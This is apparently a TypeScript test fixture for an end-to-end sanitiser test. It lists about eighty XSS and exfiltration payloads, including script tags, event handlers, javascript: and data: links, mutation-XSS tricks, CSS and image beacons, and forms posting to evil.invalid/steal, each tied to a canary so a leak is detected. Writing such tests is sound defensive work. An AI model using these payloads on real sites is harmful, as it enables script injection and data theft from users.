/**
 * Hostile payloads for tests/e2e/hostile-content.e2e.ts: script injection and exfiltration tricks,
 * each imported as .html, .md and .txt and opened in the reader. Every payload that would run
 * script sets `window.__pwned` (or calls alert/confirm/prompt, which the spec listens for), and
 * every payload that would fetch something asks http://evil.invalid/… (or another host that is not
 * 127.0.0.1), so a payload that gets through shows up as a canary, a dialog, a request, or a CSP
 * violation report.
 */

export interface HostileCase {
  id: string;
  /** What the payload tries. */
  what: string;
  /** The raw payload, placed inside the article body. */
  payload: string;
}

const PWN = 'window.__pwned=1';
const EVIL = 'http://evil.invalid';

export const HOSTILE_CASES: HostileCase[] = [
  // ---- script tags ----
  { id: 'script-inline', what: 'inline script', payload: `<script>${PWN}</script>` },
  { id: 'script-src', what: 'remote script', payload: `<script src="${EVIL}/x.js"></script>` },
  { id: 'script-upper', what: 'mixed-case script tag', payload: `<ScRiPt>${PWN}</sCrIpT>` },
  { id: 'script-split', what: 'script split by a nested tag', payload: `<scr<script>ipt>${PWN}</scr</script>ipt>` },
  { id: 'script-module', what: 'module script', payload: `<script type="module">${PWN}</script>` },
  { id: 'script-comment', what: 'script hidden in a conditional comment', payload: `<!--[if gte IE 4]><script>${PWN}</script><![endif]-->` },
  // ---- event handlers on common tags ----
  { id: 'img-onerror', what: 'img onerror', payload: `<img src="x" onerror="${PWN}">` },
  { id: 'img-onerror-remote', what: 'img onerror with remote src', payload: `<img src="${EVIL}/img.png" onerror="${PWN}">` },
  { id: 'svg-onload', what: 'svg onload', payload: `<svg onload="${PWN}"></svg>` },
  { id: 'body-onload', what: 'body onload', payload: `<body onload="${PWN}">` },
  { id: 'div-onmouseover', what: 'div onmouseover', payload: `<div onmouseover="${PWN}" style="position:fixed;inset:0">hover</div>` },
  { id: 'a-onclick', what: 'a onclick', payload: `<a href="#" onclick="${PWN}">click</a>` },
  { id: 'p-onfocus-autofocus', what: 'p onfocus with tabindex and autofocus', payload: `<p tabindex="1" autofocus onfocus="${PWN}">focus</p>` },
  { id: 'input-autofocus', what: 'input autofocus onfocus', payload: `<input autofocus onfocus="${PWN}">` },
  { id: 'details-ontoggle', what: 'details open ontoggle', payload: `<details open ontoggle="${PWN}"><summary>x</summary></details>` },
  { id: 'video-onerror', what: 'video source onerror', payload: `<video><source onerror="${PWN}" src="${EVIL}/v.mp4"></video>` },
  { id: 'audio-onerror', what: 'audio onerror', payload: `<audio src="${EVIL}/a.mp3" onerror="${PWN}"></audio>` },
  { id: 'marquee-onstart', what: 'marquee onstart', payload: `<marquee onstart="${PWN}">m</marquee>` },
  { id: 'table-background', what: 'table background and onmouseover', payload: `<table background="${EVIL}/bg.png" onmouseover="${PWN}"><tr><td>t</td></tr></table>` },
  { id: 'select-onfocus', what: 'select autofocus onfocus', payload: `<select autofocus onfocus="${PWN}"><option>o</option></select>` },
  { id: 'textarea-onfocus', what: 'textarea autofocus onfocus', payload: `<textarea autofocus onfocus="${PWN}">t</textarea>` },
  { id: 'animate-onbegin', what: 'svg animate onbegin', payload: `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>` },
  { id: 'style-onload', what: 'style onload', payload: `<style onload="${PWN}"></style>` },
  // ---- URL schemes ----
  { id: 'a-javascript', what: 'javascript: link', payload: `<a href="javascript:${PWN}">js link</a>` },
  { id: 'a-javascript-entities', what: 'javascript: link hidden with entities', payload: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}">entity link</a>` },
  { id: 'a-javascript-tab', what: 'javascript: with a tab and newline in the scheme', payload: `<a href="jav&#x09;ascript&#x0A;:${PWN}">tab link</a>` },
  { id: 'a-javascript-space', what: 'javascript: with leading spaces and mixed case', payload: `<a href="   JaVaScRiPt:${PWN}">space link</a>` },
  { id: 'a-data-html', what: 'data:text/html link', payload: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">data link</a>` },
  { id: 'a-vbscript', what: 'vbscript: link', payload: `<a href="vbscript:msgbox(1)">vb link</a>` },
  { id: 'iframe-javascript', what: 'iframe javascript: src', payload: `<iframe src="javascript:parent.${PWN}"></iframe>` },
  { id: 'form-action-js', what: 'form with javascript: action', payload: `<form action="javascript:${PWN}"><input type="submit" value="go"></form>` },
  { id: 'button-formaction', what: 'button formaction', payload: `<form><button formaction="javascript:${PWN}">b</button></form>` },
  // ---- SVG and MathML ----
  { id: 'svg-script', what: 'script inside svg', payload: `<svg><script>${PWN}</script></svg>` },
  { id: 'svg-use-href', what: 'svg use with remote href', payload: `<svg><use href="${EVIL}/sprite.svg#x"/></svg>` },
  { id: 'svg-a-xlink', what: 'svg link with xlink:href javascript:', payload: `<svg><a xlink:href="javascript:${PWN}"><text x="10" y="20">svg link</text></a></svg>` },
  { id: 'svg-image', what: 'svg image with remote href', payload: `<svg><image href="${EVIL}/svg-image.png"/></svg>` },
  { id: 'svg-foreignobject', what: 'svg foreignObject with img onerror', payload: `<svg><foreignObject><img src="x" onerror="${PWN}"></foreignObject></svg>` },
  { id: 'math-maction', what: 'MathML maction link', payload: `<math><maction actiontype="statusline" xlink:href="javascript:${PWN}">m</maction></math>` },
  { id: 'math-mxss', what: 'MathML mglyph/style mutation XSS', payload: `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>` },
  { id: 'svg-style-mxss', what: 'svg style mutation XSS', payload: `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">` },
  { id: 'noscript-mxss', what: 'noscript mutation XSS', payload: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">` },
  { id: 'form-math-mxss', what: 'form/math namespace confusion', payload: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${PWN} src>">` },
  { id: 'template-mxss', what: 'template content', payload: `<template><img src=x onerror="${PWN}"></template>` },
  { id: 'comment-mxss', what: 'comment breakout', payload: `<!--><img src=x onerror="${PWN}">-->` },
  { id: 'cdata-mxss', what: 'CDATA in svg', payload: `<svg><![CDATA[><img src=x onerror="${PWN}">]]></svg>` },
  // ---- iframes, object, embed ----
  { id: 'iframe-remote', what: 'iframe remote src', payload: `<iframe src="${EVIL}/frame.html"></iframe>` },
  { id: 'iframe-srcdoc', what: 'iframe srcdoc', payload: `<iframe srcdoc="&lt;script&gt;parent.${PWN}&lt;/script&gt;"></iframe>` },
  { id: 'object-data', what: 'object data', payload: `<object data="${EVIL}/obj.swf"></object>` },
  { id: 'embed-src', what: 'embed src', payload: `<embed src="${EVIL}/embed.swf">` },
  { id: 'frameset', what: 'frameset', payload: `<frameset><frame src="${EVIL}/frame2.html"></frameset>` },
  // ---- page-level tricks ----
  { id: 'base-href', what: 'base href', payload: `<base href="${EVIL}/"><a href="relative">relative link</a>` },
  { id: 'meta-refresh', what: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">` },
  { id: 'meta-refresh-js', what: 'meta refresh to javascript:', payload: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { id: 'link-stylesheet', what: 'remote stylesheet', payload: `<link rel="stylesheet" href="${EVIL}/s.css">` },
  { id: 'link-prefetch', what: 'prefetch and dns-prefetch', payload: `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="//evil.invalid">` },
  // ---- CSS ----
  { id: 'style-import', what: 'CSS @import', payload: `<style>@import url("${EVIL}/import.css");</style>` },
  { id: 'style-url', what: 'CSS url() background', payload: `<style>body{background:url("${EVIL}/bg.png")}</style>` },
  { id: 'style-attr-url', what: 'style attribute url()', payload: `<p style="background-image:url(${EVIL}/attr.png)">styled</p>` },
  { id: 'style-attr-expression', what: 'style attribute expression()', payload: `<p style="width:expression(${PWN})">expr</p>` },
  { id: 'font-face', what: 'CSS @font-face', payload: `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style>` },
  // ---- images and srcset ----
  { id: 'img-remote', what: 'remote image (tracking pixel)', payload: `<img src="${EVIL}/pixel.gif" alt="pixel">` },
  { id: 'img-srcset', what: 'srcset', payload: `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" alt="srcset">` },
  { id: 'picture-source', what: 'picture source srcset', payload: `<picture><source srcset="${EVIL}/pic.webp"><img alt="pic"></picture>` },
  { id: 'input-image', what: 'input type=image', payload: `<input type="image" src="${EVIL}/input.png">` },
  { id: 'a-ping', what: 'link ping', payload: `<a href="https://example.org/" ping="${EVIL}/ping">ping link</a>` },
  { id: 'img-lowsrc', what: 'lowsrc and dynsrc', payload: `<img lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn.avi">` },
  // ---- forms ----
  { id: 'form-remote', what: 'form posting elsewhere', payload: `<form action="${EVIL}/steal" method="post"><input name="q" value="secret"><button>send</button></form>` },
  { id: 'form-autosubmit', what: 'form submitted by a script', payload: `<form id="f" action="${EVIL}/auto"></form><script>document.getElementById('f').submit()</script>` },
  // ---- markdown tricks ----
  { id: 'md-link-js', what: 'markdown link to javascript:', payload: `[click me](javascript:${PWN})` },
  { id: 'md-link-js-encoded', what: 'markdown link with encoded javascript:', payload: `[click me](&#106;avascript:${PWN})` },
  { id: 'md-link-data', what: 'markdown link to data:', payload: `[data me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)` },
  { id: 'md-link-vbscript', what: 'markdown link to vbscript:', payload: `[vb me](vbscript:msgbox(1))` },
  { id: 'md-image-remote', what: 'markdown image from a remote host', payload: `![tracking pixel](${EVIL}/md-pixel.png)` },
  { id: 'md-image-onerror', what: 'markdown image with an injected attribute', payload: `![x" onerror="${PWN}](x)` },
  { id: 'md-link-title-break', what: 'markdown link title breaking out of the attribute', payload: `[t](https://example.org/ "a\\" onmouseover=\\"${PWN}")` },
  { id: 'md-autolink-js', what: 'autolink with javascript:', payload: `<javascript:${PWN}>` },
  { id: 'md-reference-js', what: 'reference-style link to javascript:', payload: `[ref link][r]\n\n[r]: javascript:${PWN}` },
  { id: 'md-html-block', what: 'raw HTML block in markdown', payload: `<div>\n<img src=x onerror="${PWN}">\n</div>` },
  { id: 'md-code-span-breakout', what: 'code span around a tag', payload: '`<img src=x onerror="' + PWN + '">`' },
  // ---- entity and encoding tricks ----
  { id: 'entity-escaped-tag', what: 'entity-escaped tag', payload: `&lt;img src=x onerror="${PWN}"&gt;` },
  { id: 'double-encoded', what: 'double-encoded script', payload: `&amp;lt;script&amp;gt;${PWN}&amp;lt;/script&amp;gt;` },
  { id: 'null-byte-scheme', what: 'null byte in a javascript: scheme', payload: `<a href="java&#0;script:${PWN}">null link</a>` },
  { id: 'utf7', what: 'UTF-7 script', payload: `+ADw-script+AD4-${PWN}+ADw-/script+AD4-` },
  { id: 'unclosed-attr', what: 'unclosed attribute swallowing markup', payload: `<img src="x" alt='<img src=x onerror=${PWN}>` },
];
